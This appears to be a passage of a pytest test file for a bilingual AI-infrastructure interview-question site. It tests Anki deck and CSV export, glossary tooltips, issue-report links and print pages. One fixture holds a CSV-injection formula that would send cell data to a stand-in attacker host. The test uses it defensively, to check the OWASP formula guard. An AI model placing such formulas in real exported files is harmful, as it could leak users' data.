"""Take the bank away: Anki decks and CSV, the glossary and its tooltips, report/edit links, download links.

Decks are opened as Anki would read them (a zip holding an SQLite collection); pages are checked as
generated Markdown and as built HTML. Browser checks (tooltips, print page, PDF) are in
tests/test_takeaway_browser.py.
"""

from __future__ import annotations

import csv
import html
import io
import itertools
import json
import os
import posixpath
import re
import sqlite3
import zipfile
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import genanki
import pytest

from studysite import cache
from studysite.build import build_site_model, generate, load_sources
from studysite.errors import Problems
from studysite.languages import LANGUAGES
from studysite.model import LeadIn, ListBlock, ListItem, Question, Site
from studysite.pages import downloads
from studysite.sources.glossary import load_glossary, tooltip
from studysite.takeaway import anki
from studysite.takeaway.anki import (
    CSV_COLUMNS,
    answer_text,
    build_deck,
    collection_bytes,
    deck_specs,
    note_model,
    spreadsheet_text,
    stable_id,
    write_decks,
)
from tests.sitekit import SEED, copy_banks, write_long_bank

SITE_URL = "https://example.org/ai-infra/"


# --- Anki decks -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Note:
    guid: str
    fields: tuple[str, ...]
    tags: frozenset[str]
    mod: int
    model: int


@dataclass(frozen=True)
class Apkg:
    notes: dict[str, Note]
    """By GUID."""
    deck_names: tuple[str, ...]
    deck_ids: tuple[int, ...]
    model_ids: tuple[int, ...]
    due: dict[str, int]
    """Card position by note GUID."""


def read_apkg(path: Path) -> Apkg:
    """Open a deck as Anki does: the zip's collection.anki2 is an SQLite database."""
    with zipfile.ZipFile(path) as zf:
        assert sorted(zf.namelist()) == ["collection.anki2", "media"]
        assert json.loads(zf.read("media")) == {}
        data = zf.read("collection.anki2")
    conn = sqlite3.connect(":memory:")
    conn.deserialize(data)
    try:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        notes = {}
        for guid, flds, tags, mod, mid in conn.execute("SELECT guid, flds, tags, mod, mid FROM notes"):
            notes[guid] = Note(guid, tuple(flds.split("\x1f")), frozenset(tags.split()), mod, mid)
        decks = json.loads(conn.execute("SELECT decks FROM col").fetchone()[0])
        models = json.loads(conn.execute("SELECT models FROM col").fetchone()[0])
        due = dict(conn.execute("SELECT n.guid, c.due FROM cards c JOIN notes n ON c.nid = n.id").fetchall())
    finally:
        conn.close()
    user_decks = [d for d in decks.values() if d["id"] != 1]  # 1 is Anki's "Default"
    return Apkg(
        notes,
        tuple(d["name"] for d in user_decks),
        tuple(int(d["id"]) for d in user_decks),
        tuple(int(m) for m in models),
        due,
    )


def site_model(banks: Path) -> tuple[Site, list]:
    problems = Problems()
    sources = load_sources(banks, problems)
    assert not problems.errors, problems.errors
    site, _ = build_site_model(sources)
    return site, [b for pair in sources.banks for b in pair if b is not None]


@pytest.fixture(scope="module")
def seed_model() -> Site:
    return site_model(SEED)[0]


@pytest.fixture(scope="module")
def seed_decks(tmp_path_factory: pytest.TempPathFactory, seed_model: Site) -> Path:
    out = tmp_path_factory.mktemp("decks")
    write_decks(seed_model, out, SITE_URL, 1_750_000_000)
    return out


def test_every_bank_and_tag_gets_decks_in_every_variant_and_a_csv(seed_model: Site, seed_decks: Path) -> None:
    written = sorted(p.relative_to(seed_decks).as_posix() for p in seed_decks.rglob("*") if p.is_file())
    tags = [tag.id for tag in seed_model.tags if any(tag.id in e.tags for e in seed_model.entries.values())]
    # each language alone, and each non-translation language with the English below it
    assert downloads.VARIANTS == ("zh", "en", "zh-Hant", "zh-en", "zh-Hant-en")
    expected = [downloads.bank_deck("ai-infra-3", v) for v in downloads.VARIANTS] + ["downloads/ai-infra-3.csv"]
    for tag_id in tags:
        expected += [downloads.tag_deck(tag_id, v) for v in downloads.VARIANTS] + [downloads.tag_csv(tag_id)]
    assert written == sorted(expected)
    assert len(tags) == 12  # the seed now also has serving, MoE and post-training questions


@pytest.mark.parametrize("variant", downloads.VARIANTS)
def test_bank_deck_notes_fields_tags_and_guids(seed_model: Site, seed_decks: Path, variant: str) -> None:
    deck = read_apkg(seed_decks / downloads.bank_deck("ai-infra-3", variant))
    bank = seed_model.banks[0]
    assert len(deck.notes) == 14
    assert deck.model_ids == (note_model().model_id,)
    assert deck.deck_ids == (stable_id(f"deck bank:ai-infra-3 {variant}"),)
    top = {
        "zh": "AI Infra 面试题库",
        "en": "AI Infra Interview Questions",
        "zh-Hant": "AI Infra 面試題庫",
        "zh-en": "AI Infra 面试题库（中英双语）",
        "zh-Hant-en": "AI Infra 面試題庫（中英雙語）",
    }
    label_lang = downloads.BILINGUAL[variant][0] if variant in downloads.BILINGUAL else variant
    title = bank.titles[label_lang]
    assert deck.deck_names == (f"{top[variant]}::{title}",)
    for position, slug in enumerate(bank.slugs):
        entry = seed_model.entries[slug]
        guid = genanki.guid_for(slug, variant)  # from the slug alone: stable across edits and rebuilds
        note = deck.notes[guid]
        question, answer, tag_field, source = note.fields
        assert note.tags == frozenset(entry.tags)  # ASCII tag ids
        assert deck.due[guid] == position  # new cards come in bank order
        langs = list(downloads.BILINGUAL.get(variant, (variant,)))
        for lang in langs:
            q = entry.text[lang]
            assert f">{html.escape(q.text)}</div>" in question
            for block in q.blocks:
                texts = [i.text for i in block.items] if isinstance(block, ListBlock) else [block.text]
                for text in texts:
                    assert html.escape(text) in answer, (variant, slug, text)
            url = f"{SITE_URL}{LANGUAGES[lang].root}ai-infra-3/{slug}/"
            assert f'href="{url}"' in source
        if variant in downloads.BILINGUAL:
            first = f'lang="{LANGUAGES[langs[0]].html_lang}"'
            assert answer.index(first) < answer.index('<hr class="qa-sep">') < answer.index('lang="en"')
        label = {"zh": "标签：", "en": "Tags: ", "zh-Hant": "標籤："}[label_lang]
        names = {t.id: t.name(label_lang) for t in seed_model.tags}
        assert tag_field == html.escape(label + " · ".join(names[t] for t in entry.tags))  # fields are HTML


def test_tag_deck_holds_exactly_the_tags_questions_with_the_same_guids(seed_model: Site, seed_decks: Path) -> None:
    for tag in seed_model.tags:
        want = [s for s in seed_model.banks[0].slugs if tag.id in seed_model.entries[s].tags]
        if not want:
            continue
        deck = read_apkg(seed_decks / downloads.tag_deck(tag.id, "zh"))
        assert set(deck.notes) == {genanki.guid_for(s, "zh") for s in want}
        assert deck.deck_names == (f"AI Infra 面试题库::标签::{tag.name('zh')}",)
        assert all(tag.id in n.tags for n in deck.notes.values())


def test_decks_are_byte_identical_across_builds(tmp_path: Path, seed_model: Site, seed_decks: Path) -> None:
    write_decks(seed_model, tmp_path, SITE_URL, 1_750_000_000)
    for path in seed_decks.rglob("*"):
        if path.is_file():
            assert (tmp_path / path.relative_to(seed_decks)).read_bytes() == path.read_bytes(), path


@pytest.mark.unit
def test_rebuilt_deck_after_an_edit_keeps_guids_and_changes_only_that_note(tmp_path: Path) -> None:
    banks = copy_banks(tmp_path / "banks")
    before_site, _ = site_model(banks)
    write_decks(before_site, tmp_path / "a", SITE_URL, 1_750_000_000)
    bank_file = banks / "ai-infra-3.txt"
    text = bank_file.read_text(encoding="utf-8")
    old = "- 梯度累积：减少通信频率。"
    assert text.count(old) == 1
    bank_file.write_text(text.replace(old, "- 梯度累积：减少梯度同步的次数。"), encoding="utf-8")
    after_site, _ = site_model(banks)
    write_decks(after_site, tmp_path / "b", SITE_URL, 1_750_000_100)  # the bank is newer now
    edited = genanki.guid_for("communication-optimized-megatron-lm", "zh")
    for variant in ("zh", "zh-en", "en"):
        a = read_apkg(tmp_path / "a" / downloads.bank_deck("ai-infra-3", variant))
        b = read_apkg(tmp_path / "b" / downloads.bank_deck("ai-infra-3", variant))
        assert set(a.notes) == set(b.notes)  # same GUIDs: Anki updates instead of duplicating
        assert a.deck_ids == b.deck_ids and a.model_ids == b.model_ids
        changed = {g for g in a.notes if a.notes[g].fields != b.notes[g].fields}
        want = {genanki.guid_for("communication-optimized-megatron-lm", variant)} if variant != "en" else set()
        assert changed == want, variant
        # Anki only updates a note that is newer than the one the reader has
        assert all(b.notes[g].mod > a.notes[g].mod for g in b.notes)
    b_zh = read_apkg(tmp_path / "b" / downloads.bank_deck("ai-infra-3", "zh"))
    assert "减少梯度同步的次数" in b_zh.notes[edited].fields[1]


@pytest.mark.unit
def test_kept_decks_are_the_bytes_made_anew_and_an_edit_makes_again_only_the_files_that_show_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    banks = copy_banks(tmp_path / "banks")
    before, _ = site_model(banks)
    made: list[str] = []  # the decks (names) and CSV files (slugs) made, not placed
    make_deck, make_csv = anki.collection_bytes, anki.csv_bytes
    monkeypatch.setattr(anki, "collection_bytes", lambda deck, stamp: made.append(deck.name) or make_deck(deck, stamp))
    monkeypatch.setattr(
        anki, "csv_bytes", lambda site, slugs, *a: made.append(",".join(slugs)) or make_csv(site, slugs, *a)
    )

    def write(site: Site, name: str, kept: bool = True, stamp: int = 1_750_000_000) -> list[str]:
        made.clear()
        return write_decks(site, tmp_path / name, SITE_URL, stamp, cache.Files(tmp_path / "kept") if kept else None)

    def same_as_made_anew(site: Site, name: str, files: list[str]) -> None:
        write(site, name + "-anew", kept=False)
        for rel in files:
            assert (tmp_path / name / rel).read_bytes() == (tmp_path / (name + "-anew") / rel).read_bytes(), rel

    files = write(before, "first")
    assert len(made) == len(files) and len(os.listdir(tmp_path / "kept")) == len(files)
    assert write(before, "again") == files and made == []  # nothing changed: every file placed
    same_as_made_anew(before, "again", files)
    # a placed file is another name of the kept one: a write over it renames a new file in, the kept one stays
    kept_bytes = (tmp_path / "again" / files[0]).read_bytes()
    anki._write_atomic(tmp_path / "again" / files[0], b"written over")
    write(before, "after-overwrite")
    assert made == [] and (tmp_path / "after-overwrite" / files[0]).read_bytes() == kept_bytes

    bank_file = banks / "ai-infra-3.txt"
    text = bank_file.read_text(encoding="utf-8")
    bank_file.write_text(
        text.replace("- 梯度累积：减少通信频率。", "- 梯度累积：减少梯度同步的次数。"), encoding="utf-8"
    )
    after, _ = site_model(banks)
    edited = "communication-optimized-megatron-lm"
    showing = [spec.name for spec in deck_specs(after) if edited in spec.slugs]
    showing += [",".join(slugs) for _rel, slugs in anki.csv_specs(after) if edited in slugs]
    assert write(after, "edited") == files
    assert sorted(made) == sorted(showing) and len(showing) < len(files) / 2
    same_as_made_anew(after, "edited", files)
    assert len(os.listdir(tmp_path / "kept")) == len(files)  # what the edit replaced is gone

    (tmp_path / "kept" / sorted(os.listdir(tmp_path / "kept"))[0]).unlink()  # a kept file lost: made again
    write(after, "one-lost")
    assert len(made) == 1
    write(after, "newer", stamp=1_750_000_100)  # every note's time changed: every deck made again
    assert len(made) == len(deck_specs(after))


@pytest.mark.unit
def test_untranslated_bank_decks_show_the_chinese_and_say_so(tmp_path: Path) -> None:
    banks = copy_banks(tmp_path / "banks", translations=False)
    site, _ = site_model(banks)
    write_decks(site, tmp_path, SITE_URL, 1_750_000_000)
    en = read_apkg(tmp_path / downloads.bank_deck("ai-infra-3", "en"))
    both = read_apkg(tmp_path / downloads.bank_deck("ai-infra-3", "zh-en"))
    for note in [*en.notes.values(), *both.notes.values()]:
        assert 'lang="en"' not in note.fields[0] + note.fields[1]
        assert note.fields[0].startswith('<div lang="zh">')
        assert '<hr class="qa-sep">' not in note.fields[1]


# --- CSV --------------------------------------------------------------------------------------------


def test_csv_is_rfc4180_utf8_with_bom_and_holds_the_same_notes(seed_model: Site, seed_decks: Path) -> None:
    data = (seed_decks / downloads.bank_csv("ai-infra-3")).read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with it
    text = data.decode("utf-8-sig")
    assert text.startswith(",".join(CSV_COLUMNS) + "\r\n") and text.endswith("\r\n")  # CRLF records
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    body = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in rows[1:]]
    assert [r["id"] for r in body] == list(seed_model.banks[0].slugs)
    for row in body:
        entry = seed_model.entries[row["id"]]
        assert row["question_zh"] == entry.text["zh"].text
        assert row["question_en"] == entry.text["en"].text
        assert row["answer_zh"] == spreadsheet_text(answer_text(entry.text["zh"]))
        assert row["tags"] == " ".join(entry.tags)
        assert row["url_en"] == f"{SITE_URL}en/ai-infra-3/{entry.slug}/"
        assert row["answer_en_html"].startswith("<")
    multiline = next(r for r in body if "\n" in r["answer_zh"] and '"' not in r["answer_zh"])
    assert f'"{multiline["answer_zh"]}"' in text  # a field with line breaks is quoted, breaks kept as written
    assert '""optimal region""' in text  # a quote inside a field is doubled (Muon's English answer)


FORMULA_BANK = """\
公式题库
Q: =HYPERLINK("https://evil.example/?"&A1,"点我")
+1+1 等于几？
Q: @SUM(1,2) 是什么？
- 以列表开头的答案。
- -2 是负数。
Q: 普通问题？
普通答案 = 正常文字。
Q: 负数怎么写？
-2 就是负二。
"""


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    """OWASP's CSV-injection guard: a cell starting with = + - @, a tab or a CR gets a leading `'`."""
    banks = tmp_path / "banks"
    banks.mkdir()
    (banks / "formula.txt").write_text(FORMULA_BANK, encoding="utf-8")
    (banks / "taxonomy.yml").write_text((SEED / "taxonomy.yml").read_text(encoding="utf-8"), encoding="utf-8")
    site, _ = site_model(banks)
    write_decks(site, tmp_path / "out", SITE_URL, 1_750_000_000)
    text = (tmp_path / "out" / downloads.bank_csv("formula")).read_bytes().decode("utf-8-sig")
    rows = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in list(csv.reader(io.StringIO(text, newline="")))[1:]]
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    hyperlink, at_sum, plain, minus = rows
    assert hyperlink["question_zh"] == '\'=HYPERLINK("https://evil.example/?"&A1,"点我")'
    assert hyperlink["answer_zh"] == "'+1+1 等于几？"
    assert at_sum["question_zh"] == "'@SUM(1,2) 是什么？"
    # a list is written with bullets, so an answer opening with one needs no guard; an item's own `-` is kept
    assert at_sum["answer_zh"] == "• 以列表开头的答案。\n• -2 是负数。"
    assert plain["question_zh"] == "普通问题？" and plain["answer_zh"] == "普通答案 = 正常文字。"
    assert minus["answer_zh"] == "'-2 就是负二。"
    # the decks keep the text as written: Anki fields are HTML, not spreadsheet cells
    deck = read_apkg(tmp_path / "out" / downloads.bank_deck("formula", "zh"))
    assert any(n.fields[0].startswith('<div lang="zh">=HYPERLINK(') for n in deck.notes.values())


@pytest.mark.unit
@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_spreadsheet_text_guards_every_formula_start(first: str) -> None:
    assert spreadsheet_text(f"{first}1+1") == f"'{first}1+1"
    assert spreadsheet_text(f"a{first}1") == f"a{first}1"
    assert spreadsheet_text("") == ""


def test_collections_are_genankis_own_bytes(seed_model: Site) -> None:
    """anki.py inserts the note and card rows itself: they must be byte for byte genanki's own."""
    for spec in deck_specs(seed_model):
        deck = build_deck(seed_model, spec, SITE_URL)
        conn = sqlite3.connect(":memory:")
        try:
            genanki.Package(deck).write_to_db(conn.cursor(), 1_750_000_000, itertools.count(1_750_000_000_000))
            conn.commit()
            assert collection_bytes(deck, 1_750_000_000) == conn.serialize(), spec.path
        finally:
            conn.close()


@pytest.mark.unit
def test_answer_text_writes_lists_as_plain_lines() -> None:
    items = tuple(ListItem(text, (5 + i,), (text,)) for i, text in enumerate(["甲", "乙"]))
    q = Question("问？", (LeadIn("步骤：", 3), ListBlock(True, 3, items), ListBlock(False, 1, items)), 2, 0)
    assert answer_text(q) == "步骤：\n3. 甲\n4. 乙\n• 甲\n• 乙"


# --- Glossary ---------------------------------------------------------------------------------------


def test_seed_glossary_is_valid_and_every_term_is_used() -> None:
    problems = Problems()
    terms = load_glossary(SEED / "glossary.yml", problems)
    assert not problems.errors
    assert len(terms) >= 50
    for term in terms:
        for lang in ("zh", "en"):
            assert term.names[lang] and term.definitions[lang]
            assert term.names[lang] in term.forms[lang]
    must = {"mfu", "tensor-parallelism", "pipeline-parallelism", "data-parallelism", "sequence-parallelism"}
    must |= {"kv-cache", "mla", "moe", "mtp", "nvshmem", "tma", "pd-disaggregation", "chunked-prefill"}
    assert must <= {t.id for t in terms}
    problems = Problems()
    load_sources(SEED, problems)
    assert not [w for w in problems.warnings if "glossary" in w.path], problems.warnings


BAD_GLOSSARY = """\
terms:
  - id: Bad_Id
    zh: 甲项
    en: Alpha
    zh_def: 定义。
    en_def: A definition.
  - id: colour
    zh: 乙项
    en: Beta
    zh_def: 定义。
    en_def: A definition.
    colour: red
  - id: gamma
    zh: 丙项
    en: Gamma
    zh_def: 定义。
  - id: delta
    zh: 丁项
    en: Delta
    zh_def: 定义。
    en_def: A definition.
    en_forms: [X, Beta]
  - id: delta
    zh: 戊项
    en: Epsilon
    zh_def: 定义。
    en_def: A definition.
"""


@pytest.mark.unit
def test_glossary_errors_name_file_line_and_field(tmp_path: Path) -> None:
    path = tmp_path / "glossary.yml"
    path.write_text(BAD_GLOSSARY, encoding="utf-8")
    problems = Problems()
    terms = load_glossary(path, problems)
    found = {(p.line, p.message) for p in problems.errors}
    assert all(p.path.endswith("glossary.yml") for p in problems.errors)
    expect = [
        (2, "field `id` must be lower-case ASCII"),
        (12, "unknown field `colour`"),
        (13, "missing field `en_def`"),
        (22, "spelling 'X' is too short"),
        (23, "id 'delta' already used at line 17"),
    ]
    for line, text in expect:
        assert any(n == line and text in m for n, m in found), (line, text, sorted(found))
    assert len(found) == len(expect), sorted(found)
    assert [t.id for t in terms] == []  # Beta is not claimed (its term was invalid), but X is too short


@pytest.mark.unit
def test_spelling_claimed_by_two_terms_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "glossary.yml"
    path.write_text(
        "terms:\n"
        "  - {id: a, zh: 甲项, en: Alpha, zh_def: 定义。, en_def: Def.}\n"
        "  - {id: b, zh: 乙项, en: Beta, zh_def: 定义。, en_def: Def., en_forms: [alpha]}\n",
        encoding="utf-8",
    )
    problems = Problems()
    terms = load_glossary(path, problems)
    assert [t.id for t in terms] == ["a"]
    assert [(p.line, p.message) for p in problems.errors] == [
        (3, "term: en spelling 'alpha' already belongs to the term at line 2")
    ]


MINI_BANK = """\
迷你题库
Q: 什么是KV Cache？
KV Cache缓存每个token的Key和Value，kv cache越大越占显存。
- 用TP切分"权重"<b>时，TP通信很多。
Q: NCCL是做什么的？
NCCL是通信库，可以传输KV Cache；之后KV Cache再交给NCCL处理。
"""
MINI_GLOSSARY = """\
terms:
  - id: kv-cache
    zh: KV Cache
    en: KV cache
    zh_def: '缓存"Key"与<Value> & 更多'
    en_def: 'Cached "keys" & <values>.'
  - id: tp
    zh: 张量并行（TP）
    en: Tensor Parallelism (TP)
    zh_def: 切分权重。
    en_def: Splits weights.
    zh_forms: [TP]
    en_forms: [TP]
  - id: nccl
    zh: NCCL
    en: NCCL
    zh_def: 通信库。
    en_def: A communication library.
  - id: nobody
    zh: 无人用
    en: Nobody uses it
    zh_def: 没人用。
    en_def: Unused.
"""


class _Elements(HTMLParser):
    """Every element with its attributes, the text inside it, and whether it sits inside a link."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[dict[str, object]] = []
        self.stack: list[dict[str, object]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        el: dict[str, object] = {
            "tag": tag,
            "attrs": dict(attrs),
            "text": "",
            "in_link": any(e["tag"] == "a" for e in self.stack),
        }
        self.found.append(el)
        self.stack.append(el)

    def handle_endtag(self, tag: str) -> None:
        while self.stack:
            if self.stack.pop()["tag"] == tag:
                break

    def handle_data(self, data: str) -> None:
        for el in self.stack:
            el["text"] = str(el["text"]) + data


def _elements(text: str) -> list[dict[str, object]]:
    parser = _Elements()
    parser.feed(text)
    return parser.found


@pytest.fixture(scope="module")
def mini(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, object]:
    root = tmp_path_factory.mktemp("mini")
    banks = root / "banks"
    banks.mkdir()
    (banks / "mini.txt").write_text(MINI_BANK, encoding="utf-8")
    (banks / "taxonomy.yml").write_text((SEED / "taxonomy.yml").read_text(encoding="utf-8"), encoding="utf-8")
    (banks / "glossary.yml").write_text(MINI_GLOSSARY, encoding="utf-8")
    result = generate(banks, root / "docs", repo_url="https://github.com/octo/ai-infra.git/")
    return root / "docs", result


def test_unused_glossary_term_is_a_warning_at_its_line(mini: tuple[Path, object]) -> None:
    _, result = mini
    warnings = [w for w in result.warnings if "glossary.yml" in w]  # type: ignore[attr-defined]
    assert len(warnings) == 1
    assert re.search(r"glossary\.yml:19: glossary term `nobody` is used by no question", warnings[0])


def test_first_use_of_each_term_gets_an_escaped_tooltip_never_inside_a_link(mini: tuple[Path, object]) -> None:
    docs, result = mini
    site = result.site  # type: ignore[attr-defined]
    terms = {t.id: t for t in site.glossary}
    kv, nccl = site.banks[0].slugs
    for lang, prefix in (("zh", ""), ("en", "en/")):
        first = (docs / prefix / "mini" / f"{kv}.md").read_text(encoding="utf-8")
        second = (docs / prefix / "mini" / f"{nccl}.md").read_text(encoding="utf-8")
        answer1 = first[first.index('<div class="qa-answer"') : first.index("</div>")]
        abbrs = [e for e in _elements(answer1) if e["tag"] == "abbr"]
        # KV Cache once (not again for "kv cache" or later mentions), TP once though it is used twice
        assert [e["text"] for e in abbrs] == ["KV Cache", "TP"]
        assert abbrs[0]["attrs"]["title"] == tooltip(terms["kv-cache"], lang)  # type: ignore[index]
        assert abbrs[0]["attrs"]["tabindex"] == "0"  # type: ignore[index]
        assert '"Key"' in tooltip(terms["kv-cache"], "zh") and "<Value> &" in tooltip(terms["kv-cache"], "zh")
        # the bank's "<b>" stays text
        assert not any(e["tag"] == "b" for e in _elements(answer1))
        assert '"权重"<b>' in "".join(str(e["text"]) for e in _elements(answer1) if e["tag"] == "li")
        # second page: the first KV Cache is a link to its question, and no tooltip explains it again
        # (one mark per term per answer: studysite/enrich/links.py)
        answer2 = second[second.index('<div class="qa-answer"') : second.index("</div>")]
        elements = _elements(answer2)
        link = next(e for e in elements if e["tag"] == "a")
        assert link["text"] == "KV Cache" and link["attrs"]["class"] == "qa-xref"  # type: ignore[index]
        abbrs = [e for e in elements if e["tag"] == "abbr"]
        assert [e["text"] for e in abbrs] == ["NCCL"]
        assert not any(e["in_link"] for e in abbrs)
    en_title = _elements((docs / "en" / "mini" / f"{kv}.md").read_text(encoding="utf-8"))
    title = next(e for e in en_title if e["tag"] == "abbr")["attrs"]["title"]  # type: ignore[index]
    assert title == 'KV cache · KV Cache: Cached "keys" & <values>.'


def test_glossary_page_lists_every_term_with_both_names_and_its_questions(mini: tuple[Path, object]) -> None:
    docs, result = mini
    kv, nccl = result.site.banks[0].slugs  # type: ignore[attr-defined]
    page = (docs / "glossary.md").read_text(encoding="utf-8")
    assert "## KV Cache { #kv-cache }" in page
    assert "## 张量并行（TP） { #tp }" in page
    assert '<span lang="en">Tensor Parallelism (TP)</span>' in page
    assert html.escape('Cached "keys" & <values>.') in page
    section = page[page.index("{ #kv-cache }") : page.index("{ #tp }")]
    assert f'href="../mini/{kv}/"' in section and f'href="../mini/{nccl}/"' in section  # listings.term_preview
    nobody = page[page.index("{ #nobody }") :]
    assert "暂无问题用到这个术语" in nobody
    en = (docs / "en" / "glossary.md").read_text(encoding="utf-8")
    assert "## Tensor Parallelism &#40;TP&#41; { #tp }" in en and '<span lang="zh">张量并行（TP）</span>' in en
    assert {"术语表": "glossary.md"} in json.loads((docs / ".nav.json").read_text(encoding="utf-8"))


def test_a_banks_folder_without_glossary_builds_without_tooltips(tmp_path: Path) -> None:
    banks = copy_banks(tmp_path / "banks")
    (banks / "glossary.yml").unlink()
    result = generate(banks, tmp_path / "docs")
    assert result.site.glossary == ()
    assert not (tmp_path / "docs" / "glossary.md").exists()
    page = (tmp_path / "docs" / "ai-infra-3" / "communication-optimized-megatron-lm.md").read_text(encoding="utf-8")
    assert "<abbr" not in page


# --- Report an error / edit the source -------------------------------------------------------------


def test_report_and_edit_links_carry_slug_bank_title_and_line(mini: tuple[Path, object]) -> None:
    docs, result = mini
    nccl = result.site.banks[0].slugs[1]  # type: ignore[attr-defined]
    for prefix in ("", "en/"):
        page = (docs / prefix / "mini" / f"{nccl}.md").read_text(encoding="utf-8")
        links = {
            e["attrs"]["class"]: e["attrs"]["href"]  # type: ignore[index]
            for e in _elements(page)
            if e["tag"] == "a" and str(e["attrs"].get("class", "")).startswith("qa-actions")  # type: ignore[union-attr]
        }
        report = urlsplit(links["qa-actions__report"])
        assert (report.scheme, report.netloc, report.path) == ("https", "github.com", "/octo/ai-infra/issues/new")
        query = parse_qs(report.query, strict_parsing=True)
        assert query["title"] == [f"[mini/{nccl}] NCCL是做什么的？"]
        # The issue form's fields (.github/ISSUE_TEMPLATE/report-error.yml), by their ids.
        assert query["template"] == ["report-error.yml"]
        assert query["source"] == ["banks/mini.txt:5"] and query["question"] == ["NCCL是做什么的？"]
        assert query["page"] == [f"/{prefix}mini/{nccl}/"]
        assert query["language"] == [{"": "中文 (zh)", "en/": "English (en)"}[prefix]]
        assert "+" not in report.query  # spaces are %20, not +
        edit = links["qa-actions__edit"]
        assert edit == "https://github.com/octo/ai-infra/blob/main/banks/mini.txt#L5"
        assert MINI_BANK.splitlines()[4].startswith("Q: NCCL")
    meta = (docs / "mini" / f"{nccl}.md").read_text(encoding="utf-8").split("---")[1]
    assert '"file": "banks/mini.txt", "line": 5' in meta


def test_report_title_with_special_characters_round_trips(tmp_path: Path) -> None:
    banks = tmp_path / "banks"
    banks.mkdir()
    question = 'A & B #1: 100% "quoted" <tag>?'
    (banks / "odd.txt").write_text(f"题库\nQ: {question}\n答案。\n", encoding="utf-8")
    (banks / "taxonomy.yml").write_text((SEED / "taxonomy.yml").read_text(encoding="utf-8"), encoding="utf-8")
    result = generate(banks, tmp_path / "docs", repo_url="https://github.com/o/r")
    slug = next(iter(result.site.entries))
    page = (tmp_path / "docs" / "odd" / f"{slug}.md").read_text(encoding="utf-8")
    href = next(e for e in _elements(page) if e["tag"] == "a" and "issues/new" in str(e["attrs"].get("href")))
    query = urlsplit(str(href["attrs"]["href"])).query  # type: ignore[index]
    assert parse_qs(query)["title"] == [f"[odd/{slug}] {question}"]  # the & and # inside were encoded


def test_no_repository_no_links(seed_site: Path) -> None:
    page = (seed_site / "ai-infra-3" / "communication-optimized-megatron-lm" / "index.html").read_text(encoding="utf-8")
    assert "qa-actions" not in page and "issues/new" not in page


# --- Download links on the built site ----------------------------------------------------------------


def _hrefs(page: Path) -> list[str]:
    return [str(e["attrs"].get("href")) for e in _elements(page.read_text(encoding="utf-8")) if e["tag"] == "a"]  # type: ignore[union-attr]


def test_home_bank_and_tags_pages_link_decks_and_csv_that_exist(seed_site: Path) -> None:
    for page, need in (
        ("index.html", {"ai-infra-3.zh.apkg", "ai-infra-3.en.apkg", "ai-infra-3.zh-en.apkg", "ai-infra-3.csv"}),
        ("ai-infra-3/index.html", {"ai-infra-3.zh.apkg", "ai-infra-3.zh-en.apkg", "ai-infra-3.csv"}),
        ("tags/index.html", {"training.zh.apkg", "gpu.en.apkg", "optimizers.zh-en.apkg", "memory.csv"}),
    ):
        for prefix in ("", "en/"):
            html_file = seed_site / prefix / page
            files = [h for h in _hrefs(html_file) if h.endswith((".apkg", ".csv"))]
            assert need <= {f.rsplit("/", 1)[-1] for f in files}, (prefix, page)
            for href in files:
                target = (html_file.parent / href).resolve()
                assert target.is_file(), (prefix, page, href)
                assert target.is_relative_to((seed_site / "downloads").resolve())
    assert read_apkg(seed_site / downloads.bank_deck("ai-infra-3", "zh")).notes


def test_pdf_link_is_hidden_and_addressless_until_the_pdf_exists(seed_site: Path) -> None:
    for page in ("ai-infra-3/index.html", "en/ai-infra-3/index.html", "ai-infra-3/print/index.html"):
        text = (seed_site / page).read_text(encoding="utf-8")
        assert '<span class="qa-pdf" hidden>' in text
        assert not any(h.endswith(".pdf") and not h.startswith("https://") for h in _hrefs(seed_site / page))
    assert not list((seed_site / "downloads").glob("*.pdf"))


def test_glossary_pages_link_to_question_pages_that_exist(seed_site: Path) -> None:
    for prefix in ("", "en/"):
        page = seed_site / prefix / "glossary" / "index.html"
        targets = [h for h in _hrefs(page) if "ai-infra-3/" in h and not h.startswith("http")]
        assert len(targets) >= 60
        for href in targets:
            assert (page.parent / href / "index.html").resolve().is_file(), href


def test_print_pages_are_left_out_of_search(seed_site: Path) -> None:
    text = (seed_site / "ai-infra-3" / "print" / "index.html").read_text(encoding="utf-8")
    assert 'data-pagefind-ignore="all"' in text
    assert 'class="qa-answer"' not in text  # that markup means "the one page of this question"


@pytest.mark.unit
def test_a_long_banks_print_edition_comes_in_bounded_parts_that_lose_nothing(tmp_path: Path) -> None:
    from studysite.pages import print_edition

    banks = copy_banks(tmp_path / "banks")
    bank_id = write_long_bank(banks)
    site, _ = site_model(banks)
    slugs = list(site.bank(bank_id).slugs)
    parts = {lang: {p.path: p.text for p in print_edition.print_pages(site, lang)} for lang in LANGUAGES.codes}
    assert all(parts[lang].keys() == parts["zh"].keys() for lang in parts)  # every part in every language
    ours = sorted((p for p in parts["zh"] if p.startswith(f"{bank_id}/")), key=lambda p: (len(p), p))
    assert ours[0] == f"{bank_id}/print.md" and len(ours) >= 3, ours
    assert [p for p in parts["zh"] if p.startswith("ai-infra-3/")] == ["ai-infra-3/print.md"]  # 14 questions: one
    for lang in ("zh", "en"):
        seen = []
        for k, path in enumerate(ours, start=1):
            text = parts[lang][path]
            assert len(text.encode()) <= 80_000, (lang, path, len(text.encode()))
            assert f'data-qa-print-part="{k}/{len(ours)}"' in text
            found = re.findall(r'<section class="qa-print__q" id="q-(\d+)" data-qa-slug="([^"]+)"', text)
            seen += [slug for _, slug in found]
            numbers = [int(n) for n, _ in found]
